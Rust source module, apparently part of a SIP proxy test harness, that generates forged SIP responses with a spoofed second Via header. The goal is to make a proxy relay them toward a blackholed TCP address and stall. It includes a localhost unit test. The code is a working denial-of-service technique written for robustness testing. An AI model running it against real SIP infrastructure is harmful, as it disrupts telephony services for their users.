//! [`ForgedResponses`]: responses to requests the node never sent, whose top Via is the node's
//! own address and whose second Via is a target the attacker picks (`TCP 127.0.0.99:5060`). A
//! proxy with no client transaction for such a response removes its own Via and relays the
//! response by the next one (RFC 3261 §16.7 step 1, §18.2.2), so the attacker steers the node's
//! sends: to a TCP address that drops SYNs (a blackhole), each relay waits for a connect that
//! never completes.
//!
//! Sent over UDP from a set local address, at a set rate (default two a second); the socket
//! never reads.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};

use anyhow::{Context, Result};

use super::messages::{Fresh, forged_response};
use super::worker::{Worker, run_paced};

/// Forged responses to start. See the module doc.
#[derive(Debug, Clone)]
pub struct ForgedResponses {
    node: SocketAddr,
    second_via: String,
    status: u16,
    source: IpAddr,
    per_second: f64,
    salt: u64,
}

/// What [`ForgedResponses`] sent.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ForgedCounts {
    pub sent: u64,
    pub send_errors: u64,
}

/// Running [`ForgedResponses`]; stopped by [`ForgedResponsesHandle::stop`] or on drop.
#[derive(Debug)]
pub struct ForgedResponsesHandle {
    worker: Worker<ForgedCounts>,
    local: SocketAddr,
}

impl ForgedResponses {
    /// `200 OK` responses to `node` (its SIP address, written in the top Via) relayed towards
    /// `second_via` (`"TCP 127.0.0.99:5060"`: transport, host and port of the second Via), two a
    /// second from 127.0.0.1.
    pub fn new(node: SocketAddr, second_via: &str) -> ForgedResponses {
        ForgedResponses {
            node,
            second_via: second_via.to_string(),
            status: 200,
            source: IpAddr::V4(Ipv4Addr::LOCALHOST),
            per_second: 2.0,
            salt: rand::random(),
        }
    }

    /// The status code of the responses.
    pub fn status(mut self, status: u16) -> ForgedResponses {
        self.status = status;
        self
    }

    /// The local address to send from (port chosen by the OS).
    pub fn source(mut self, ip: IpAddr) -> ForgedResponses {
        self.source = ip;
        self
    }

    /// Responses per second.
    pub fn rate(mut self, per_second: f64) -> ForgedResponses {
        self.per_second = per_second;
        self
    }

    /// Binds the socket and starts sending.
    pub fn start(self) -> Result<ForgedResponsesHandle> {
        let socket = UdpSocket::bind((self.source, 0))
            .with_context(|| format!("cannot bind a UDP socket on {}", self.source))?;
        socket.set_nonblocking(true)?;
        let local = socket.local_addr()?;
        let ForgedResponses {
            node,
            second_via,
            status,
            per_second,
            salt,
            ..
        } = self;
        let worker = Worker::spawn("attack-forged-responses", move |stop| {
            let mut counts = ForgedCounts::default();
            run_paced(stop, per_second, || {
                let fresh = Fresh::new(counts.sent + counts.send_errors, salt);
                let bytes = forged_response(node, &second_via, status, &fresh);
                match socket.send_to(&bytes, node) {
                    Ok(_) => counts.sent += 1,
                    Err(_) => counts.send_errors += 1,
                }
            });
            counts
        })?;
        Ok(ForgedResponsesHandle { worker, local })
    }
}

impl ForgedResponsesHandle {
    /// The address the responses come from.
    pub fn local_addr(&self) -> SocketAddr {
        self.local
    }

    /// Stops sending; what was sent.
    pub fn stop(self) -> ForgedCounts {
        self.worker.finish()
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::sip_message::SipMessage;

    #[test]
    fn responses_name_the_node_first_and_the_chosen_hop_second() {
        let node = UdpSocket::bind("127.0.0.1:0").unwrap();
        node.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let node_addr = node.local_addr().unwrap();
        let forged = ForgedResponses::new(node_addr, "TCP 127.0.0.99:5060")
            .rate(20.0)
            .source("127.0.0.4".parse().unwrap())
            .start()
            .unwrap();
        let mut buf = vec![0u8; 65_535];
        let (n, from) = node.recv_from(&mut buf).unwrap();
        assert_eq!(from, forged.local_addr());
        let response = SipMessage::parse(&buf[..n]).unwrap();
        assert_eq!(response.status(), Some(200));
        let vias = response.headers("Via");
        assert_eq!(vias.len(), 2, "{}", response.text());
        assert!(vias[0].starts_with(&format!("SIP/2.0/UDP {node_addr};branch=z9hG4bK")));
        assert!(vias[1].starts_with("SIP/2.0/TCP 127.0.0.99:5060;branch=z9hG4bK"));
        let counts = forged.stop();
        assert!(counts.sent >= 1 && counts.send_errors == 0, "{counts:?}");
    }
}
